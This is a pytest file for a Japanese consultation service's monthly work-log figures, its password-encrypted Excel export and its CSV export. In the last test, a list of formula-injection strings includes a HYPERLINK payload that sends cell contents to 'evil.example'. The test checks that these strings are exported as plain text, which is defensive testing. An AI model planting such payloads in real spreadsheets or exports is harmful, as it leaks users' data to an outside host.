"""The work log's figures (R21) on SQLite and PostgreSQL, and the encrypted monthly workbook.

The figures are checked against a month seeded straight into the tables (tests/console/worklog_seed.py), so each
expected number can be traced to the rows that make it.
"""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import msoffcrypto
import openpyxl
import pytest
from msoffcrypto.exceptions import InvalidKeyError
from sqlalchemy import select

from console.worklog_book import build, encrypt, encrypted_file, month_contents
from console.worklog_report import (
    MonthError,
    load_columns,
    month_log,
    month_of,
    month_range,
    parse_month,
    previous_month,
)
from handoff.domain.hours import HoursPolicy
from handoff.store.db import Database
from tests.console.worklog_seed import MONTH, Seeded, seed_october

PASSWORD = "prefecture agreed passphrase"
COLUMNS = load_columns()
KEYS = [c.key for c in COLUMNS]



async def seeded(db: Database) -> Seeded:
    async with db.session() as session:
        return await seed_october(session, "t1")


def row(log: Any, day: int) -> dict[str, Any]:
    figures = log.days[day - 1]
    assert figures.day == date(2026, 10, day)
    return {key: figures.value(key) for key in KEYS}


def test_months_are_jst_months() -> None:
    assert parse_month("2026-10") == date(2026, 10, 1)
    for bad in ("2026/10", "2026-1", "10-2026", "2026-13", "latest", ""):
        with pytest.raises(MonthError, match="2026-10"):
            parse_month(bad)
    # 08:30 on 1 November in Tokyo is still 31 October in UTC: the month (and so the default report) is JST's.
    assert month_of(datetime(2026, 10, 31, 23, 30, tzinfo=UTC)) == date(2026, 11, 1)
    assert previous_month(date(2026, 1, 1)) == date(2025, 12, 1)
    start, end = month_range(MONTH)
    assert (start.isoformat(), end.isoformat()) == ("2026-09-30T15:00:00+00:00", "2026-10-31T15:00:00+00:00")


async def test_daily_figures_count_by_jst_day_on_both_databases(db: Database) -> None:
    await seeded(db)
    async with db.session() as session:
        log = await month_log(session, MONTH, HoursPolicy())
    assert len(log.days) == 31
    zero = {k: 0 for k in KEYS} | {"handled_by": "", "wait_median": None, "wait_max": None, "on_duty": "",
                                   "staffing": ""}  # no duty recorded yet: not judged (test_duty.py)
    # 23:59 JST on the 5th and 00:01 JST on the 6th share a UTC date, but not a JST one.
    assert row(log, 5) == zero | {"follows": 1, "writers": 1, "messages_in": 1, "off_hours": 1, "bot_only": 1}
    assert row(log, 6) == zero | {
        "follows": 1, "writers": 2, "messages_in": 3, "off_hours": 1, "handoffs": 2, "handled": 2,
        "handled_by": "山田 2、佐藤 1", "crises": 1, "records": 1, "wait_median": 20.0, "wait_max": 30.0,
    }
    # A wait that began on 30 September counts on the day it ended; September's handoff does not.
    assert row(log, 1) == zero | {"wait_median": 915.0, "wait_max": 915.0}
    # The block at 23:59 on the 31st is October's; the re-follow at 00:01 on 1 November is not.
    assert row(log, 31) == zero | {"unfollows": 1}
    assert row(log, 7) == zero | {"follows": 1}  # a greeting alone is not a conversation the bot handled
    assert all(row(log, d) == zero for d in range(2, 32) if d not in (5, 6, 7, 31))
    assert {k: log.total.value(k) for k in KEYS} == {
        "follows": 3, "unfollows": 1, "writers": 3, "messages_in": 4, "off_hours": 2, "handoffs": 2,
        "handled": 2, "handled_by": "山田 2、佐藤 1", "bot_only": 1, "crises": 1, "wait_median": 30.0,
        "wait_max": 915.0, "records": 1, "on_duty": "", "staffing": "",
    }
    assert log.days[5].note == "危機対応1件。県に電話で報告済み。" and log.days[5].note_by == "主任"
    async with db.session() as session:
        november = await month_log(session, date(2026, 11, 1), HoursPolicy())
        september = await month_log(session, date(2026, 9, 1), HoursPolicy())
    assert november.days[0].follows == 1 and november.total.value("unfollows") == 0
    assert september.days[29].follows == 1 and september.total.value("handoffs") == 1
    assert september.total.value("wait_max") is None


def decrypt(data: bytes, password: str) -> openpyxl.Workbook:
    office = msoffcrypto.OfficeFile(io.BytesIO(data))
    office.load_key(password=password)
    plain = io.BytesIO()
    office.decrypt(plain)
    return openpyxl.load_workbook(plain)


def cells(sheet: Any, row_number: int) -> list[Any]:
    return [c.value for c in sheet[row_number]]


async def test_monthly_workbook_opens_only_with_its_password(db: Database, tmp_path: Path) -> None:
    seed = await seeded(db)
    async with db.session() as session:
        log, records, _statistics = await month_contents(session, MONTH, HoursPolicy())
    assert len(records) == 1
    data = await encrypted_file(log, records, COLUMNS, HoursPolicy(), PASSWORD)
    path = tmp_path / "業務日誌_2026-10.xlsx"
    path.write_bytes(data)
    assert not zipfile.is_zipfile(path)  # an xlsx is a zip; an encrypted one is an OLE container
    assert data[:8] == bytes.fromhex("d0cf11e0a1b11ae1")
    office = msoffcrypto.OfficeFile(io.BytesIO(data))
    assert office.is_encrypted() and office.type == "agile"  # ECMA-376 agile (AES-256, SHA-512)
    with pytest.raises(zipfile.BadZipFile):
        openpyxl.load_workbook(path)
    with pytest.raises(InvalidKeyError):
        decrypt(data, PASSWORD + "x")

    book = decrypt(path.read_bytes(), PASSWORD)
    assert book.sheetnames == ["業務日誌", "相談記録", "項目の説明"]
    log = book["業務日誌"]
    assert "2026年10月" in log["A1"].value
    header = cells(log, 2)
    assert header[:4] == ["日付", "曜日", "窓口", "友だち追加"] and header[-3:] == ["特記事項", "特記事項の記入者",
                                                                                  "記入日時"]
    assert log.max_row == 2 + 31 + 1
    by_header = dict(zip(header, cells(log, 2 + 6), strict=True))
    assert by_header["日付"] == datetime(2026, 10, 6)
    assert (by_header["曜日"], by_header["窓口"]) == ("火", "開")
    assert (by_header["相談者数"], by_header["受信数"], by_header["相談員の対応"]) == (2, 3, 2)
    assert by_header["対応した相談員"] == "山田 2、佐藤 1"
    assert (by_header["待ち時間（中央値・分）"], by_header["待ち時間（最大・分）"]) == (20, 30)
    assert by_header["特記事項"] == "危機対応1件。県に電話で報告済み。"
    assert by_header["特記事項の記入者"] == "主任"
    assert cells(log, 2 + 3)[2] == "休"  # Saturday 3 October
    total = dict(zip(header, cells(log, 2 + 32), strict=True))
    assert (total["日付"], total["友だち追加"], total["ブロック"], total["時間外の受信"]) == ("合計", 3, 1, 2)
    records_sheet = book["相談記録"]
    assert cells(records_sheet, 1)[:4] == ["記録ID", "相談ID", "記録日時", "記録者"]
    record = cells(records_sheet, 2)
    assert record[2] == "2026-10-06 12:40" and record[3] == seed.yamada and record[-1] == "学校と介護の両立"
    assert records_sheet.max_row == 2
    everything = " ".join(str(c.value) for sheet in book for r in sheet.iter_rows() for c in r if c.value)
    assert not any(line_id in everything for line_id in seed.line_ids)
    assert "本文はログに載らない" not in everything


def test_workbook_with_no_activity_still_lists_every_day() -> None:
    from console.worklog_report import DayFigures, MonthLog, _total

    days = [DayFigures(day=date(2026, 2, d)) for d in range(1, 29)]
    book = decrypt(encrypt(build(MonthLog(date(2026, 2, 1), days, _total(days)), COLUMNS, HoursPolicy(), []),
                           PASSWORD), PASSWORD)
    assert book["業務日誌"].max_row == 2 + 28 + 1 and book["相談記録"].max_row == 1


FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"詳細")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


async def test_exports_keep_formula_like_text_as_text_in_csv_and_workbook(db: Database) -> None:
    """OWASP CSV injection: a summary, referral or day note that starts like a formula is shown, never run."""
    import csv

    from console.records import csv_text
    from handoff.store.models import Record
    from handoff.store.models_worklog import WorklogNote

    seed = await seeded(db)
    async with db.session() as session:
        conversation_id = (await session.scalars(select(Record.conversation_id))).first()
        for i, text in enumerate(FORMULAS):
            session.add(Record(conversation_id=conversation_id, created_at=datetime(2026, 10, 20 + i, 3, tzinfo=UTC),
                               topics=["school"], care_recipients=["mother"], referral=text, summary=text))
        session.add(WorklogNote(day=date(2026, 10, 20), text="=1+1", updated_at=datetime(2026, 10, 20, tzinfo=UTC)))
    async with db.session() as session:
        log, records, _statistics = await month_contents(session, MONTH, HoursPolicy())
    exported = list(csv.reader(io.StringIO(csv_text(records).lstrip("\ufeff"))))
    assert [row[-1] for row in exported[-len(FORMULAS):]] == ["'" + text for text in FORMULAS]
    assert [row[-3] for row in exported[-len(FORMULAS):]] == ["'" + text for text in FORMULAS]
    assert exported[1][-1] == "学校と介護の両立" and seed.yamada in exported[1]  # plain text is left alone

    book = decrypt(await encrypted_file(log, records, COLUMNS, HoursPolicy(), PASSWORD), PASSWORD)
    written = list(book["相談記録"].iter_rows(min_row=3))
    as_read = [text.replace("\r", "\n") for text in FORMULAS]  # XML reads a lone CR back as LF
    assert [r[-1].value for r in written] == as_read and all(r[-1].data_type == "s" for r in written)
    assert [r[-3].value for r in written] == as_read and all(r[-3].data_type == "s" for r in written)
    note = dict(zip(cells(book["業務日誌"], 2), book["業務日誌"][2 + 20], strict=True))["特記事項"]
    assert note.value == "=1+1" and note.data_type == "s"
